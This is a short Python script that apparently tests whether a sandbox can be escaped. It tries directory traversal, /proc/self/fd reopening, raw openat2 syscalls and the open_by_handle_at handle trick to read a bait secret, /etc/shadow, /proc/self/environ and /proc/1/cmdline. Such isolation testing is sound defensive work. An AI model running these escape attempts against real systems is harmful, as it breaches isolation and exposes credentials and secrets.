# Get from an open folder or file to others: by "..", by reopening, by handles.
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
learned = []
start = [os.open(path, os.O_PATH) for path in (".", "..", "/", os.path.dirname(sys.modules["torch"].__file__), BAIT)]
for fd in start:
    for up in ("", "../" * 3, "../" * 12):
        for name in (f"{up}{BAIT[1:]}/secret.txt", f"{up}etc/shadow", "secret.txt", f"{up}proc/self/environ", f"{up}proc/1/cmdline"):
            for attempt in (
                lambda: os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 10),
                lambda: os.read(os.open(f"/proc/self/fd/{os.open(name, os.O_PATH, dir_fd=fd)}", os.O_RDONLY), 10),
                lambda: os.read(libc.syscall(437, fd, name.encode(), (ctypes.c_uint64 * 3)(0, 0, 0), 24), 10),
                lambda: os.read(libc.syscall(2, name.encode(), 0), 10),
            ):
                try:
                    learned.append(attempt())
                except OSError:
                    pass
    try:
        os.fchdir(fd)
        learned.append(open("secret.txt").read())
    except OSError:
        pass
handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(200), 204)
libc.syscall(303, -100, f"{BAIT}/secret.txt".encode(), handle, ctypes.byref(ctypes.c_int()), 0)
learned += [1] if libc.syscall(304, start[0], handle, 0) >= 0 else []
print("learned-by-attack" if learned else "", len(learned))
